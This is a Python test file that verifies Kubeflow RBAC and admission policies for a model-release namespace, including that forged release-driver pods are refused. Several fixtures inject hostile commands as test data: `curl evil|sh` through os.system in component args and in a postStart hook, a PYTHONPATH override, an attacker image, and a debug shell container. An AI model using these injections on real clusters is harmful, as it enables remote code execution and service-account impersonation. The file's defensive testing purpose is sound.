"""RBAC of the built overlays, evaluated as the cluster would (``kfrelease.k8s.policy.rbac``): vendored upstream
Kubeflow ClusterRoles aggregated as the controller manager does, ours, and what the profile controller binds
for each Profile; people as KFP sees them (user name only, kubeflow/pipelines
``backend/src/apiserver/resource/resource_manager.go``), the CI's IAM role through its EKS access entry.

KFP multi-user authorizes run operations as verbs on ``runs`` in API group ``pipelines.kubeflow.org``
(kubeflow/pipelines ``view-edit-cluster-roles.yaml``); Argo ``workflows`` are the runs' Kubernetes objects.
"""

import copy

import pytest
import yaml

from kfrelease.k8s.environments import (
    CI_GROUP,
    CI_SERVICE_ACCOUNT,
    DATA_SCIENTISTS_GROUP,
    MANIFESTS_DIR,
    PROFILE_SA,
    RELEASE_NS,
)
from kfrelease.k8s.render.platform import (
    KFP_SUBMITTER_STEP,
    RELEASE_DRIVER_SA,
    RELEASE_DRIVER_STEP,
    STEP_LABEL,
    UNTRUSTED,
    UNTRUSTED_SA,
)
from kfrelease.kfp.submit import TOKEN_AUDIENCE
from tests.cluster_standin import ApiError, Cluster

from .conftest import upstream_cluster_roles
from .rbac_eval import (
    RBACModel,
    Requester,
    access_entry_requester,
    kfp_requester,
    person,
    requester_of,
    service_account,
)

KFP = "pipelines.kubeflow.org"
ARGO = "argoproj.io"
STOP_OR_START = ["create", "terminate", "delete", "retry", "archive", "unarchive"]
WORKFLOW_WRITES = ["create", "update", "patch", "delete", "deletecollection"]
CI_ROLE_ARN = "arn:aws:iam::{account}:role/kfrelease-ci"


@pytest.fixture(scope="module", params=["staging", "production"])
def model(request, built):
    return request.param, RBACModel(built[request.param] + upstream_cluster_roles(request.param))


def cluster_config(env: str) -> dict:
    return yaml.safe_load((MANIFESTS_DIR / "eks" / env / "cluster.yaml").read_text())


def data_scientists(sources):
    """Each workspace owner, as KFP authorizes them: the user name, no groups."""
    assert sources.workspaces, "the manifests should carry at least one example workspace"
    return [kfp_requester(person(ws.email)) for ws in sources.workspaces]


def test_a_data_scientist_cannot_start_stop_retry_delete_or_archive_a_release_run(model, sources):
    env, rbac = model
    for ds in data_scientists(sources):
        for verb in STOP_OR_START:
            assert not rbac.allowed(ds, verb, KFP, "runs", RELEASE_NS), (
                f"{env}: {ds.name} may {verb} runs: {rbac.why(ds, verb, KFP, 'runs', RELEASE_NS)}"
            )
        for verb in WORKFLOW_WRITES:
            assert not rbac.allowed(ds, verb, ARGO, "workflows", RELEASE_NS)
        for verb in ("create", "delete", "disable", "enable"):  # recurring runs
            assert not rbac.allowed(ds, verb, KFP, "jobs", RELEASE_NS)
        assert not rbac.allowed(ds, "create", "", "serviceaccounts/token", RELEASE_NS, CI_SERVICE_ACCOUNT)


def test_a_data_scientist_can_view_release_runs_experiments_and_artifacts(model, sources):
    env, rbac = model
    for ds in data_scientists(sources):
        for verb in ("get", "list", "readArtifact"):
            assert rbac.allowed(ds, verb, KFP, "runs", RELEASE_NS), f"{env}: {ds.name} cannot {verb} runs"
        for verb in ("get", "list"):
            assert rbac.allowed(ds, verb, KFP, "experiments", RELEASE_NS)
        own = f"ds-{ds.name.split('@')[0]}"
        assert rbac.allowed(ds, "create", KFP, "runs", own), f"{env}: {ds.name} cannot experiment in {own}"


def test_a_group_binding_grants_nobody_anything_through_kfp(model):
    """KFP's SubjectAccessReview drops groups, so the only group binding rendered is the CI's (used on the
    Kubernetes API, where its access entry maps the CI role to the group); a person 'in' a group gets nothing."""
    env, rbac = model
    assert [b for b in rbac.group_bindings() if "ci-token" not in b] == [], f"{env}: people bound by group"
    someone = kfp_requester(Requester("new-hire@example.com", (DATA_SCIENTISTS_GROUP, "system:authenticated")))
    assert someone.groups == ()
    assert not rbac.allowed(someone, "get", KFP, "runs", RELEASE_NS)
    groups_mapped = {g for e in cluster_config(env)["accessConfig"]["accessEntries"] for g in e["kubernetesGroups"]}
    for origin in rbac.group_bindings():
        assert CI_GROUP in groups_mapped, f"{env}: {origin} names a group no access entry maps"


def test_only_the_ci_service_account_creates_runs_and_it_cannot_stop_them(model, sources):
    env, rbac = model
    ci = kfp_requester(service_account(RELEASE_NS, CI_SERVICE_ACCOUNT))
    assert rbac.allowed(ci, "create", KFP, "runs", RELEASE_NS), f"{env}: the CI cannot create runs"
    for resource in ("pipelines", "pipelineversions"):  # no upload: the platform's pipelines only
        assert not rbac.allowed(ci, "create", KFP, resource, RELEASE_NS), f"{env}: the CI may upload {resource}"
        assert rbac.allowed(ci, "get", KFP, resource, RELEASE_NS)
    for verb in ("terminate", "delete", "retry", "archive"):
        assert not rbac.allowed(ci, verb, KFP, "runs", RELEASE_NS), f"{env}: the CI may {verb} runs"
    for verb in WORKFLOW_WRITES:
        assert not rbac.allowed(service_account(RELEASE_NS, CI_SERVICE_ACCOUNT), verb, ARGO, "workflows", RELEASE_NS)
    creators = {
        (s["kind"], s["name"])
        for s in rbac.subjects(RELEASE_NS)
        if s["kind"] != "Group"
        and rbac.allowed(kfp_requester(requester_of(s, s["bound_in"])), "create", KFP, "runs", RELEASE_NS)
    }
    assert creators == {
        ("ServiceAccount", CI_SERVICE_ACCOUNT),
        ("ServiceAccount", PROFILE_SA),
        ("User", sources.envs.team.release_owner),
    }, f"{env}: unexpected run creators {creators}"
    team = {ws.email for ws in sources.workspaces} | {
        sources.envs.team.data_engineering_owner,
        sources.envs.team.data_science_owner,
    }
    assert sources.envs.team.release_owner not in team


def test_the_ci_identity_can_only_mint_the_ci_service_account_token(model, sources):
    env, rbac = model
    account = sources.envs.environments[env].account_id
    ci_iam = access_entry_requester(cluster_config(env), CI_ROLE_ARN.format(account=account))
    assert rbac.allowed(ci_iam, "create", "", "serviceaccounts/token", RELEASE_NS, CI_SERVICE_ACCOUNT)
    assert not rbac.allowed(ci_iam, "create", "", "serviceaccounts/token", RELEASE_NS, PROFILE_SA)
    assert not rbac.allowed(kfp_requester(ci_iam), "create", KFP, "runs", RELEASE_NS)


def test_the_evaluator_sees_grants_through_aggregation(built):
    """The evaluator is not trivially 'deny': kubeflow-edit (aggregated) grants exactly the run verbs."""
    probe_binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "probe", "namespace": RELEASE_NS},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "kubeflow-edit"},
        "subjects": [{"kind": "User", "name": "probe@example.com"}],
    }
    rbac = RBACModel(built["staging"] + upstream_cluster_roles() + [probe_binding])
    probe = person("probe@example.com")
    assert all(rbac.allowed(probe, v, KFP, "runs", RELEASE_NS) for v in STOP_OR_START)
    assert rbac.allowed(probe, "delete", ARGO, "workflows", RELEASE_NS)
    group_binding = {**probe_binding, "subjects": [{"kind": "Group", "name": "team"}]}
    rbac = RBACModel(built["staging"] + upstream_cluster_roles() + [group_binding])
    assert rbac.allowed(Requester("x", ("team",)), "delete", ARGO, "workflows", RELEASE_NS)  # on the Kubernetes API
    assert not rbac.allowed(kfp_requester(Requester("x", ("team",))), "terminate", KFP, "runs", RELEASE_NS)  # KFP
    with pytest.raises(KeyError):
        RBACModel([{**probe_binding, "roleRef": {"kind": "ClusterRole", "name": "unknown"}}]).allowed(
            probe, "get", "", "pods", RELEASE_NS
        )


def test_only_the_release_steps_move_serving_traffic(model, sources):
    env, rbac = model
    serving_ns = sources.spec.serving.namespace
    driver = service_account(RELEASE_NS, RELEASE_DRIVER_SA)
    others = [
        service_account(RELEASE_NS, PROFILE_SA),
        service_account(RELEASE_NS, UNTRUSTED_SA),
        service_account(RELEASE_NS, CI_SERVICE_ACCOUNT),
        *data_scientists(sources),
    ]
    for group, resource in (("serving.kserve.io", "inferenceservices"), ("networking.istio.io", "virtualservices")):
        assert rbac.allowed(driver, "patch", group, resource, serving_ns), f"{env}: driver cannot patch {resource}"
        assert not rbac.allowed(driver, "delete", group, resource, serving_ns, "diabetes-progression")
        for who in others:
            assert not rbac.allowed(who, "patch", group, resource, serving_ns), f"{env}: {who.name} may patch"


def test_the_merged_model_code_runs_as_an_identity_that_cannot_stop_anything(model):
    """train/evaluate run as the untrusted steps' service account: refused run terminate/delete (KFP),
    Argo workflow and pod deletes, and every write to serving."""
    env, rbac = model
    untrusted = service_account(RELEASE_NS, UNTRUSTED_SA)
    for verb in ("terminate", "delete", "retry", "archive", "create"):
        assert not rbac.allowed(kfp_requester(untrusted), verb, KFP, "runs", RELEASE_NS), f"{env}: may {verb} runs"
    for verb in WORKFLOW_WRITES:
        assert not rbac.allowed(untrusted, verb, ARGO, "workflows", RELEASE_NS)
    for verb in ("delete", "deletecollection", "patch"):
        assert not rbac.allowed(untrusted, verb, "", "pods", RELEASE_NS)
    assert not rbac.allowed(untrusted, "create", "", "pods/exec", RELEASE_NS)
    assert rbac.allowed(untrusted, "create", ARGO, "workflowtaskresults", RELEASE_NS)  # the Argo executor's minimum
    # ... while the Profile's default-editor, which it would otherwise run as, can stop runs:
    assert rbac.allowed(kfp_requester(service_account(RELEASE_NS, PROFILE_SA)), "terminate", KFP, "runs", RELEASE_NS)


def pipeline_pod(labels: dict) -> dict:
    """A pod as KFP's Argo workflow creates it for a task (the run's service account, the task's labels)."""
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "step",
            "namespace": RELEASE_NS,
            "labels": {"workflows.argoproj.io/workflow": "run-1", **labels},
        },
        "spec": {"serviceAccountName": PROFILE_SA, "containers": [{"name": "main", "image": "kfrelease"}]},
    }


def assert_release_steps_find_prometheus(pod: dict) -> None:
    """With only the env the PodDefault gives, the canary's signals resolve to a cluster Prometheus (without
    it every cluster release is refused before its first canary step)."""
    from kfrelease.config import Settings
    from kfrelease.release.controller import signals_for
    from kfrelease.rollout.spec import load_rollout_spec

    env = {e["name"]: e["value"] for e in pod["spec"]["containers"][0]["env"] if "value" in e}
    with pytest.MonkeyPatch.context() as mp:
        for name in ("KFRELEASE_TARGET", "KFRELEASE_PROMETHEUS_URL"):
            mp.delenv(name, raising=False)
        for name, value in env.items():
            if name.startswith("KFRELEASE_"):
                mp.setenv(name, value)
        signals = signals_for(Settings.from_env(), load_rollout_spec(model="diabetes-progression"), "V1.2.0")
    assert env["KFRELEASE_PROMETHEUS_URL"].startswith("http://prometheus-operated.monitoring")
    assert type(signals).__name__ == "PrometheusMetrics"


def token_volumes(pod: dict) -> list[dict]:
    return [
        s["serviceAccountToken"]
        for v in pod["spec"]["volumes"]
        if "projected" in v
        for s in v["projected"]["sources"]
        if "serviceAccountToken" in s
    ]


@pytest.mark.parametrize("env", ["staging", "production"])
def test_the_pod_defaults_give_each_step_its_identity_and_the_kfp_token_only_to_the_hand_over(env, built):
    cluster = Cluster(built[env])
    train = cluster.admit_pod(pipeline_pod({STEP_LABEL: UNTRUSTED}))
    assert train["spec"]["serviceAccountName"] == UNTRUSTED_SA and token_volumes(train) == []
    assert "KF_PIPELINES_SA_TOKEN_PATH" not in {e["name"] for e in train["spec"]["containers"][0]["env"]}
    release = cluster.admit_pod(pipeline_pod({STEP_LABEL: RELEASE_DRIVER_STEP}))
    assert release["spec"]["serviceAccountName"] == RELEASE_DRIVER_SA
    assert {"name": "KFRELEASE_TARGET", "value": "cluster"} in release["spec"]["containers"][0]["env"]
    # the release steps' identity at the ingress gateway (the replay to production's predictor): a projected
    # token of the audience the gateway's m2m-token-issuer accepts, which at KFP is the release driver, who may
    # neither create nor terminate runs
    (replay,) = token_volumes(release)
    assert replay["audience"] == TOKEN_AUDIENCE
    release_env = {e["name"]: e.get("value") for e in release["spec"]["containers"][0]["env"]}
    (mount,) = [m for m in release["spec"]["containers"][0]["volumeMounts"] if m["name"] == "kfrelease-replay-token"]
    assert release_env["KFRELEASE_REPLAY_TOKEN_PATH"] == f"{mount['mountPath']}/{replay['path']}"
    assert release_env["KFRELEASE_INGRESS_GATEWAY_URL"] == "http://istio-ingressgateway.istio-system.svc.cluster.local"
    for verb in ("create", "terminate", "delete", "get"):
        assert not cluster.kfp(service_account(RELEASE_NS, RELEASE_DRIVER_SA), verb, "runs", RELEASE_NS), verb
    assert_release_steps_find_prometheus(release)
    trusted = cluster.admit_pod(pipeline_pod({}))
    assert trusted["spec"]["serviceAccountName"] == PROFILE_SA and token_volumes(trusted) == []
    hand_over = cluster.admit_pod(pipeline_pod({STEP_LABEL: KFP_SUBMITTER_STEP}))
    (token,) = token_volumes(hand_over)
    assert token["audience"] == TOKEN_AUDIENCE
    env_vars = {e["name"]: e.get("value") for e in hand_over["spec"]["containers"][0]["env"]}
    assert env_vars["KFRELEASE_KFP_HOST"].startswith("http://ml-pipeline-ui.kubeflow")
    assert env_vars["KFRELEASE_NAMESPACE"] == RELEASE_NS
    (mount,) = [m for m in hand_over["spec"]["containers"][0]["volumeMounts"] if m["name"] == "kfp-api-token"]
    assert env_vars["KF_PIPELINES_SA_TOKEN_PATH"] == f"{mount['mountPath']}/{token['path']}"
    assert cluster.kfp(service_account(RELEASE_NS, PROFILE_SA), "create", "runs", RELEASE_NS)
    # every pipeline pod still gets the object-store settings
    for pod in (train, release, trusted, hand_over):
        assert "KFRELEASE_S3_ENDPOINT" in {e["name"] for e in pod["spec"]["containers"][0]["env"]}


def test_the_compiled_pipelines_label_each_step_with_its_identity(tmp_path):
    """The labels the PodDefaults select (kfp-kubernetes ``add_pod_label`` -> ``podMetadata`` of the executor)."""
    from kfp import compiler

    from kfrelease.pipelines.release_pipeline import release_pipeline
    from kfrelease.pipelines.training_pipeline import training_pipeline

    labels = {}
    for pipeline in (training_pipeline, release_pipeline):
        path = tmp_path / f"{pipeline.name}.yaml"
        compiler.Compiler().compile(pipeline, str(path))
        _, platform = list(yaml.safe_load_all(path.read_text()))
        for executor, cfg in platform["platforms"]["kubernetes"]["deploymentSpec"]["executors"].items():
            labels[executor] = cfg.get("podMetadata", {}).get("labels", {}).get(STEP_LABEL)
    # the untrusted steps run the merged code (train, and the champion's label-blind scoring); evaluate is
    # trusted library code since issue 23 (it joins the untrusted step's predictions with the labels it holds)
    assert labels["exec-train"] == labels["exec-score-champion"] == UNTRUSTED and labels["exec-evaluate"] is None
    assert labels["exec-deploy-staging"] == KFP_SUBMITTER_STEP
    release = {k: v for k, v in labels.items() if k.startswith(("exec-release", "exec-shadow", "exec-rollout"))}
    # preflight, shadow gate, and the rollout of each branch (after the shadow gate, a tag bump, a first model)
    assert set(release) == {
        f"exec-{s}" for s in ("release-preflight", "shadow-gate", "rollout", "rollout-2", "rollout-3")
    }
    assert set(release.values()) == {RELEASE_DRIVER_STEP}
    assert "exec-register" not in labels and "exec-containerize" not in labels  # trusted library code


def test_on_the_stand_in_the_untrusted_steps_are_refused_run_workflow_and_pod_deletes(built):
    cluster = Cluster(built["staging"])
    untrusted = service_account(RELEASE_NS, UNTRUSTED_SA)
    for verb in ("terminate", "delete"):
        assert not cluster.kfp(untrusted, verb, "runs", RELEASE_NS)
    for kind in ("Workflow", "Pod"):
        with pytest.raises(ApiError) as err:
            cluster.delete(untrusted, kind, RELEASE_NS, "training-run-1")
        assert err.value.status == 403
    assert len(cluster.refused) == 2


# --- which code runs as which identity: the admission policies of the release namespace ---------------------
#
# The release steps' identity was bound only by a pod label (PodDefault ``kfrelease-release-driver-step``), and
# whoever can create a run in the release namespace sets any pod label: KFP's ``createRun`` checks only ``runs
# create`` (kubeflow/pipelines 2.16.0 backend/src/apiserver/server/run_server.go). The pods below are built as
# Argo's workflow controller would create them for a compiled pipeline (tests/cluster_standin/executor_pod.py:
# KFP's driver.go initPodSpecPatch and argocompiler container.go, Argo's workflowpod.go) and go through the
# stand-in's admission (PodDefaults, token and IRSA mutations, then the rendered ValidatingAdmissionPolicies on a
# CEL interpreter: kfrelease.k8s.policy.admission).

ARGO_CONTROLLER = Requester("system:serviceaccount:kubeflow:argo")
DIGEST = "sha256:" + "0123456789abcdef" * 4


def platform_image(env_name: str, sources) -> str:
    """The image the manifests are rendered for: ``<registry>/kfrelease@<image_digest>`` of environments.yaml."""
    return sources.envs.environments[env_name].platform_image


def release_pod(env_name, sources, executor="exec-rollout", pipeline=None, **kw):
    from kfrelease.pipelines.release_pipeline import release_pipeline
    from tests.cluster_standin.executor_pod import executor_pod

    return executor_pod(pipeline or release_pipeline, executor, platform_image(env_name, sources), RELEASE_NS, **kw)


def training_pod(env_name, sources, executor="exec-train", **kw):
    from kfrelease.pipelines.training_pipeline import training_pipeline
    from tests.cluster_standin.executor_pod import executor_pod

    return executor_pod(training_pipeline, executor, platform_image(env_name, sources), RELEASE_NS, **kw)


def refused(cluster: Cluster, pod: dict, who: Requester = ARGO_CONTROLLER) -> str:
    with pytest.raises(ApiError) as err:
        cluster.create_pod(who, pod)
    assert err.value.status == 422, err.value
    return str(err.value)


def main_container(pod: dict) -> dict:
    return next(c for c in pod["spec"]["containers"] if c["name"] == "main")


@pytest.mark.parametrize("env", ["staging", "production"])
def test_each_compiled_step_runs_as_the_identity_its_code_is_allowed(env, built, sources):
    """Every executor of the training and release pipelines, as Argo creates its pod: the release components run
    as the release driver, the merged model code as the untrusted step, everything else as default-editor."""
    from google.protobuf import json_format

    from kfrelease.pipelines.release_pipeline import release_pipeline
    from kfrelease.pipelines.training_pipeline import training_pipeline
    from tests.cluster_standin.executor_pod import executor_pod

    cluster = Cluster(built[env])
    identities = {}
    for pipeline in (training_pipeline, release_pipeline):
        for executor in json_format.MessageToDict(pipeline.pipeline_spec)["deploymentSpec"]["executors"]:
            pod = executor_pod(pipeline, executor, platform_image(env, sources), RELEASE_NS)
            identities[executor] = cluster.create_pod(ARGO_CONTROLLER, pod)["spec"]["serviceAccountName"]
    release = {k for k, v in identities.items() if v == RELEASE_DRIVER_SA}
    assert release == {f"exec-{s}" for s in ("release-preflight", "shadow-gate", "rollout", "rollout-2", "rollout-3")}
    assert identities["exec-train"] == identities["exec-score-champion"] == UNTRUSTED_SA
    assert identities["exec-register"] == identities["exec-deploy-staging"] == PROFILE_SA
    assert cluster.refused == []


@pytest.mark.parametrize(
    "forgery",
    [
        "train-code-with-the-release-label",
        "release-component-with-changed-source",
        "release-component-from-another-image",
        "release-component-by-tag",
        "release-component-from-an-older-platform-image",
        "run-service-account-set-to-the-release-driver",
        "python-path-in-env",
        "pickles-allowed-again",
        "code-mounted-over-dot-local",
        "post-start-hook",
        "extra-container",
        "emissary-runs-other-code-before-the-launcher",
    ],
)
def test_a_pipeline_that_sets_the_release_identity_but_runs_other_code_is_refused(forgery, built, sources):
    """Before the admission policy, each of these pods was admitted as kfrelease-release-driver: the label (or the
    run's service account) alone chose the identity, whatever code the pod ran."""
    cluster = Cluster(built["staging"])
    if forgery == "train-code-with-the-release-label":  # an inline pipeline spec: any podMetadata it likes
        pod = training_pod("staging", sources)
        pod["metadata"]["labels"][STEP_LABEL] = RELEASE_DRIVER_STEP
        why = "one of the release pipeline's components"
    elif forgery == "run-service-account-set-to-the-release-driver":  # KFP's run.service_account
        pod = training_pod("staging", sources, executor="exec-evaluate", service_account=RELEASE_DRIVER_SA)
        why = "one of the release pipeline's components"
    else:
        pod = release_pod("staging", sources)
        main = main_container(pod)
        if forgery == "release-component-with-changed-source":
            main["args"] = [
                a.replace("rollout_step(", "__import__('os').system('curl evil|sh') or rollout_step(")
                for a in main["args"]
            ]
            why = "one of the release pipeline's components"
        elif forgery == "release-component-from-another-image":
            main["image"] = f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/kfrelease@{DIGEST}"
            why = "the platform's image"
        elif forgery == "release-component-by-tag":
            main["image"] = main["image"].split("@")[0] + ":latest"
            why = "the platform's image"
        elif forgery == "release-component-from-an-older-platform-image":
            # review 4 R5: the same ECR repository keeps every earlier release's image (tags immutable, no lifecycle
            # policy), and the policy admitted any digest of it: an image from before require_shadow_gate (c6b6649)
            # ran today's compiled rollout args as the driver, with none of the later gates
            main["image"] = main["image"].split("@")[0] + f"@{DIGEST}"
            why = "the platform's image"
        elif forgery == "python-path-in-env":
            main["env"].append({"name": "PYTHONPATH", "value": "/.local"})
            why = "environment"
        elif forgery == "pickles-allowed-again":
            main["env"] = [e for e in main["env"] if e["name"] != "KFRELEASE_REFUSE_PICKLE"]
            main["env"].append({"name": "KFRELEASE_REFUSE_PICKLE", "value": "0"})
            why = "environment"
        elif forgery == "code-mounted-over-dot-local":
            pod["spec"]["volumes"] = [v for v in pod["spec"]["volumes"] if v["name"] != "dot-local-scratch"]
            pod["spec"]["volumes"].append({"name": "dot-local-scratch", "configMap": {"name": "site-packages"}})
            why = "mounts only"
        elif forgery == "post-start-hook":
            main["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}
            why = "no lifecycle hooks"
        elif forgery == "emissary-runs-other-code-before-the-launcher":  # a Workflow written by hand
            main["command"][8:8] = ["python3", "-c", "import evil"]
            why = "emissary running KFP's launcher"
        elif forgery == "extra-container":
            pod["spec"]["containers"].append({"name": "helper", "image": main["image"], "command": ["sh"]})
            why = "exactly the containers"
    message = refused(cluster, pod)
    assert "kfrelease-step-identity" in message and why in message, message


def test_the_release_pod_of_argo_3_5_kubeflow_1_10_is_admitted_too(built, sources):
    """Argo v3.5 (kubeflow/manifests v1.10.x: argoexec v3.5.14) writes no ``--gloglevel`` before the emissary's
    ``--`` (``getExecutorLogOpts``), so the launcher sits two places earlier in ``main``'s command."""
    from tests.cluster_standin.executor_pod import ARGO_LOG_35

    pod = release_pod("staging", sources, argo_log=tuple(ARGO_LOG_35))
    assert Cluster(built["staging"]).create_pod(ARGO_CONTROLLER, pod)["spec"]["serviceAccountName"] == RELEASE_DRIVER_SA


def test_the_release_pod_of_kfp_2_4_1_kubeflow_1_10_0_is_admitted_and_its_launcher_copies_only_the_launcher(
    built, sources
):
    """Review eks5 S5: kubeflow/manifests v1.10.0 runs KFP 2.4.1 (``apps/pipeline/upstream/base/pipeline/
    kustomization.yaml`` newTag 2.4.1) and Argo v3.4.17, whose ``kfp-launcher`` init container has
    ``command: [launcher-v2, --copy, /kfp-launcher/launch]`` and no args (kubeflow/pipelines 2.4.1
    ``backend/src/v2/compiler/argocompiler/container.go``; 2.5.0 moved the last two into ``args``): the policy
    admitted only the 2.5+ shape, so on a v1.10.0 cluster every release step was refused. Both shapes are admitted
    now, and only them."""
    from tests.cluster_standin.executor_pod import ARGO_LOG_35

    cluster = Cluster(built["staging"])
    pod = release_pod("staging", sources, argo_log=tuple(ARGO_LOG_35), kfp="2.4.1")
    (init,) = [c for c in pod["spec"]["initContainers"] if c["name"] == "kfp-launcher"]
    assert init["command"] == ["launcher-v2", "--copy", "/kfp-launcher/launch"] and "args" not in init
    assert cluster.create_pod(ARGO_CONTROLLER, pod)["spec"]["serviceAccountName"] == RELEASE_DRIVER_SA
    for i, (command, args) in enumerate(
        (
            (["launcher-v2", "--copy", "/kfp-launcher/other"], None),  # another file where main runs the launcher
            (["launcher-v2", "--copy", "/kfp-launcher/launch"], ["--copy", "/kfp-launcher/launch2"]),
            (["launcher-v2", "--copy", "/kfp-launcher/launch", "--extra"], None),
            (["sh", "-c", "cp /x /kfp-launcher/launch"], None),
        )
    ):
        bad = copy.deepcopy(pod)
        bad["metadata"]["name"] += f"-{i}"
        (c,) = [c for c in bad["spec"]["initContainers"] if c["name"] == "kfp-launcher"]
        c["command"] = command
        if args is not None:
            c["args"] = args
        message = refused(cluster, bad)
        assert "kfp-launcher init container only copies the launcher" in message, message


@pytest.mark.parametrize("executor", ["exec-train", "exec-score-champion"])
def test_the_merged_model_code_runs_as_the_untrusted_identity_or_not_at_all(executor, built, sources):
    """Review eks5 L3: the untrusted steps' identity is the PodDefault ``kfrelease-untrusted-step``'s doing, which
    ``kubeflow-edit`` (the Profile's ``default-editor``) may delete; without it train ran as ``default-editor``
    (the registry's write). ``kfrelease-untrusted-identity`` refuses such a pod instead (fail closed)."""
    from kfrelease.k8s.render.admission import UNTRUSTED_IDENTITY_POLICY

    cluster = Cluster(built["staging"])
    pod = training_pod("staging", sources, executor=executor)
    assert cluster.create_pod(ARGO_CONTROLLER, pod)["spec"]["serviceAccountName"] == UNTRUSTED_SA
    editor = service_account(RELEASE_NS, PROFILE_SA)
    assert cluster.can(editor, "delete", "PodDefault", RELEASE_NS, f"kfrelease-{UNTRUSTED}-step")
    del cluster.objects[("PodDefault", RELEASE_NS, f"kfrelease-{UNTRUSTED}-step")]
    again = copy.deepcopy(pod)
    again["metadata"]["name"] += "-again"
    message = refused(cluster, again)
    assert UNTRUSTED_IDENTITY_POLICY in message and f"must run as {UNTRUSTED_SA}" in message, message
    # the same pod named to run as default-editor from the start is refused too, PodDefault or not
    assert UNTRUSTED_IDENTITY_POLICY in refused(
        cluster, {**again, "spec": {**again["spec"], "serviceAccountName": PROFILE_SA}}
    )


def test_the_release_pod_as_argo_creates_it_is_admitted_and_nobody_else_may_create_or_change_it(built, sources):
    cluster = Cluster(built["production"])
    pod = cluster.create_pod(ARGO_CONTROLLER, release_pod("production", sources, executor="exec-shadow-gate"))
    assert pod["spec"]["serviceAccountName"] == RELEASE_DRIVER_SA
    cluster.objects[("Pod", RELEASE_NS, pod["metadata"]["name"])] = pod
    editor = service_account(RELEASE_NS, PROFILE_SA)  # kubeflow-edit: pods create/update, pods/exec
    # the same pod, created directly by the Profile's default-editor (any trusted step, any run's driver)
    message = refused(cluster, release_pod("production", sources, executor="exec-shadow-gate"), who=editor)
    assert "only Argo's workflow controller" in message
    # images are mutable on a running pod: default-editor swaps the release step's for its own
    changed = copy.deepcopy(pod)
    main_container(changed)["image"] = "docker.io/attacker/tool:1"
    with pytest.raises(ApiError) as err:
        cluster.update_pod(editor, changed)
    assert err.value.status == 422 and "the platform's image" in str(err.value)
    # an ephemeral debug container joins through the pods/ephemeralcontainers subresource
    debug = copy.deepcopy(pod)
    debug["spec"]["ephemeralContainers"] = [{"name": "debugger", "image": "busybox", "command": ["sh"]}]
    with pytest.raises(ApiError) as err:
        cluster.update_pod(editor, debug, subresource="ephemeralcontainers")
    assert "no ephemeral container" in str(err.value)
    # kubectl exec into it: kubeflow-edit grants pods/exec, the namespace's policy refuses it
    assert cluster.rbac.allowed(editor, "create", "", "pods/exec", RELEASE_NS)
    for sub in ("exec", "attach"):
        with pytest.raises(ApiError) as err:
            cluster.connect(editor, RELEASE_NS, pod["metadata"]["name"], sub)
        assert err.value.status == 403 and "kfrelease-release-no-exec" in str(err.value)


def test_the_metadata_configmap_cannot_carry_the_release_steps_environment(built):
    """KFP's executor reads the optional metadata-grpc-configmap into main's environment (argocompiler
    common.go metadataEnvFrom); kubeflow-edit may write ConfigMaps in the namespace."""
    cluster = Cluster(built["staging"])
    editor = service_account(RELEASE_NS, PROFILE_SA)

    def configmap(data):
        return {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": "metadata-grpc-configmap", "namespace": RELEASE_NS},
            "data": data,
        }

    cluster.admit(
        editor,
        "CREATE",
        configmap(
            {"METADATA_GRPC_SERVICE_HOST": "metadata-grpc-service.kubeflow", "METADATA_GRPC_SERVICE_PORT": "8080"}
        ),
    )
    with pytest.raises(ApiError) as err:
        cluster.admit(editor, "CREATE", configmap({"PYTHONPATH": "/.local", "METADATA_GRPC_SERVICE_PORT": "8080"}))
    assert "kfrelease-metadata-configmap" in str(err.value)


@pytest.mark.parametrize("env", ["staging", "production"])
def test_nobody_mints_a_long_lived_token_of_the_release_driver_through_a_secret(env, built):
    """Review eks3 N3: kubeflow-edit (kubeflow/manifests v1.11.0 and 26.03 common/kubeflow-roles/base/
    cluster-roles.yaml, kubeflow-kubernetes-edit) creates and reads Secrets; a Secret of type
    kubernetes.io/service-account-token naming the driver is filled by the control plane's token controller with a
    non-expiring driver token (Kubernetes docs, "Manually create a long-lived API token for a ServiceAccount"), no
    pod involved. Before kfrelease-no-token-secrets the default-editor read that token back."""
    cluster = Cluster(built[env])
    editor = service_account(RELEASE_NS, PROFILE_SA)
    assert cluster.can(editor, "create", "Secret", RELEASE_NS) and cluster.can(editor, "get", "Secret", RELEASE_NS)
    for who in (editor, service_account(RELEASE_NS, "kfrelease-ci")):
        token_secret = {
            "apiVersion": "v1",
            "kind": "Secret",
            "type": "kubernetes.io/service-account-token",
            "metadata": {
                "name": f"driver-token-{who.name.rpartition(':')[2]}",
                "namespace": RELEASE_NS,
                "annotations": {"kubernetes.io/service-account.name": RELEASE_DRIVER_SA},
            },
        }
        if not cluster.can(who, "create", "Secret", RELEASE_NS):
            continue  # RBAC refuses already (kfrelease-ci holds no Secret rights)
        with pytest.raises(ApiError) as err:
            cluster.create(who, token_secret)
        assert err.value.status == 422 and "kfrelease-no-token-secrets" in str(err.value), err.value
        assert ("Secret", RELEASE_NS, token_secret["metadata"]["name"]) not in cluster.objects
        # an ordinary Secret (a registry credential, say) is still the editor's to create
        opaque = copy.deepcopy(token_secret)
        opaque["type"] = "Opaque"
        opaque["metadata"]["name"] += "-opaque"
        opaque["data"] = {"k": "dg=="}
        assert "token" not in cluster.create(who, opaque).get("data", {})
        # a token Secret made before the policy cannot be re-pointed at the driver either (type is immutable,
        # the annotation is not)
        old = {**copy.deepcopy(token_secret), "data": {"token": "b2xk"}}
        old["metadata"]["annotations"]["kubernetes.io/service-account.name"] = PROFILE_SA
        new = copy.deepcopy(token_secret)
        with pytest.raises(ApiError):
            cluster.admit(who, "UPDATE", new, old=old)
    assert any("kfrelease-no-token-secrets" in r for r in cluster.refused)


def argo_node_id(workflow: str, node_name: str) -> str:
    """Argo's node ID (argoproj/argo-workflows v3.7.3 ``pkg/apis/workflow/v1alpha1/workflow_types.go``
    ``Workflow.NodeID``): ``<workflow>-<fnv32a(node name)>``."""
    h = 0x811C9DC5
    for byte in node_name.encode():
        h = ((h ^ byte) * 0x01000193) & 0xFFFFFFFF
    return f"{workflow}-{h}"


@pytest.mark.parametrize("env", ["staging", "production"])
